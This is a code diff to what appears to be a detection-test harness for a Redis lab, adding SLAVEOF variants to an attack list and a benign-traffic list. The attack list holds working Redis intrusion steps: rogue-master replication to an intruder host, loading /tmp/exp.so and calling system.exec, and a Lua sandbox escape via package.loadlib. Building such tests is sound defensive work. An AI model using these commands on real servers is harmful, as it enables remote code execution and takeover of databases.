@@ -164,6 +164,8 @@ def attacks(lab):
     cli("REPLICAOF", intruder.ip, "21000")
     time.sleep(2.5)
     cli("REPLICAOF", "NO", "ONE")
+    cli("SLAVEOF", "127.0.0.1", "9")
+    cli("SLAVEOF", "NO", "ONE")
     cli("MODULE", "LOAD", "/tmp/exp.so")
     cli("system.exec", "id")
     cli("EVAL", 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1', "0")
@@ -203,7 +205,7 @@ def benign(lab):
         return app.run("redis-cli", "-h", db.ip, "-p", port, *argv, stdin=stdin)
 
     for argv in (["SET", "session:1", "user=anna;role=module"], ["GET", "session:1"], ["CONFIG", "GET", "dir"], ["CONFIG", "GET", "dbfilename"], ["CONFIG", "SET", "maxmemory", "32mb"],
-                 ["REPLICAOF", "NO", "ONE"], ["MODULE", "LIST"], ["SET", "note", "flushall is a command; do not use it"], ["SET", "doc", "rule: * * * is a wildcard"],
+                 ["REPLICAOF", "NO", "ONE"], ["SLAVEOF", "NO", "ONE"], ["MODULE", "LIST"], ["SET", "note", "flushall is a command; do not use it"], ["SET", "doc", "rule: * * * is a wildcard"],
                  ["EVAL", "return redis.call('GET', KEYS[1])", "1", "session:1"], ["SET", "system.executive", "anna"], ["SET", "k", "ssh-agent forwarding"], ["LPUSH", "jobs", "mail"], ["FLUSHDB"]):
         cli(*argv)
     for guess in ("foobared", "inert"):
